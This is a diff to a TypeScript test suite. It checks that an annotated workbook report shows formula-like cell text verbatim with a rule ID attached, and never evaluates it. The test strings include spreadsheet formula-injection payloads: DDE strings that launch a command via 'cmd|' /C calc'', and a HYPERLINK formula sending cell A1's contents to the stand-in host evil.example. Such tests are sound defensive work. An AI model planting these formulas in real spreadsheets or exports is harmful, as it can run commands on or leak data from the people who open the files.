@@ -150,10 +150,11 @@ describe("the annotated copy of a workbook full of formula-like text", () => {
 
     it("shows the person's text, never what it would compute", () => {
       const findings = sheets.get("檢核結果")!;
-      expect(findings).toContain(",+1+cmd|' /C calc'!A0\n");
-      expect(findings).toContain(",-2+3\n");
-      expect(findings).toContain(",@A1\n");
-      expect(findings).toContain(',"\n-1+1"\n');
+      // Exception notes, in the column before the rule ID.
+      expect(findings).toContain(",+1+cmd|' /C calc'!A0,WB-VALUE-UNKNOWN\n");
+      expect(findings).toContain(",-2+3,WB-VALUE-UNKNOWN\n");
+      expect(findings).toContain(",@A1,WB-VALUE-UNKNOWN\n");
+      expect(findings).toContain(',"\n-1+1",WB-VALUE-UNKNOWN\n');
       expect(findings).toContain('=HYPERLINK(""http://evil.example/?""&A1,""click"")');
       expect(findings).toContain("@SUM(1+1)*cmd|' /C calc'!A0");
       expect(sheets.get("營運摘要")!.split("\n")[0]).toContain("營運摘要：=HYPERLINK(");
